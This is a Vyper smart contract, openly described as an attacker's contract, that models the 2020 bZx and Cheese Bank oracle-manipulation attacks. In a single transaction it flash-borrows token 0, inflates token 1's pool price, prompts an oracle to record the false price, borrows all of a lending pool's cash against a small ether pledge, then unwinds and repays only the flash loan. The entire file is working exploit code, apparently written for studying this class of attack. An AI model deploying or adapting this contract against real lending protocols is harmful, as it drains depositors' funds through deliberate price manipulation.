# pragma version 0.4.3
# pragma evm-version cancun
"""
@title An attacker's contract: makes ether dear in a pool for a moment, and borrows against it
@notice Models the contracts that attacked bZx and Cheese Bank (2020), all in one transaction: a flash loan buys token 1
    until its price is many times what it was; a lending pool that believes the price lends all it has against little
    ether; then token 1 is sold, and the flash loan paid back. The debt is never repaid: it is worth more than what was
    pledged for it. Omits the search for the best amounts.
@dev Storage: owner; token0, token1, pool, lender, lending, oracle. Hot: nothing of its own.
"""

from ethereum.ercs import IERC20


interface Pool:
    def swap(sell0: bool, amount: uint256, least: uint256) -> uint256: nonpayable


interface FlashLender:
    def lend(amount: uint256): nonpayable


interface Lending:
    def deposit(tokens: uint256): payable
    def pledge(amount: uint256): nonpayable
    def borrow(tokens: uint256): nonpayable
    def withdraw(tokens: uint256, amount: uint256): nonpayable
    def cash() -> uint256: view

owner: public(address)
token0: public(address)
token1: public(address)
pool: public(address)
lender: public(address)
lending: public(address)
oracle: public(address)


@deploy
def __init__(token0: address, token1: address, pool: address, lender: address, lending: address, oracle: address):
    self.owner = msg.sender
    self.token0 = token0
    self.token1 = token1
    self.pool = pool
    self.lender = lender
    self.lending = lending
    self.oracle = oracle


@external
@payable
def attack(loan: uint256):
    """
    @notice Do it, with a flash loan of so much of token 0, and with the ether that is sent along as the pledge.
    """
    assert msg.sender == self.owner, "not the owner"
    extcall FlashLender(self.lender).lend(loan)
    profit: uint256 = staticcall IERC20(self.token0).balanceOf(self)
    assert extcall IERC20(self.token0).transfer(self.owner, profit)


@external
def onLoan(amount: uint256, fee: uint256):
    assert msg.sender == self.lender, "not the lender"
    assert extcall IERC20(self.token0).approve(self.pool, amount)
    bought: uint256 = extcall Pool(self.pool).swap(True, amount, 0)
    # An oracle that records prices is told now, when the price is false. One that does not record refuses the call.
    recorded: bool = raw_call(self.oracle, method_id("record()"), revert_on_failure=False)
    pledged: uint256 = self.balance
    loot: uint256 = staticcall Lending(self.lending).cash()
    extcall Lending(self.lending).deposit(0, value=pledged)
    extcall Lending(self.lending).pledge(pledged)
    extcall Lending(self.lending).borrow(loot)
    extcall Lending(self.lending).withdraw(loot, 0)
    assert extcall IERC20(self.token1).approve(self.pool, bought)
    extcall Pool(self.pool).swap(False, bought, 0)
    assert extcall IERC20(self.token0).transfer(self.lender, amount + fee)
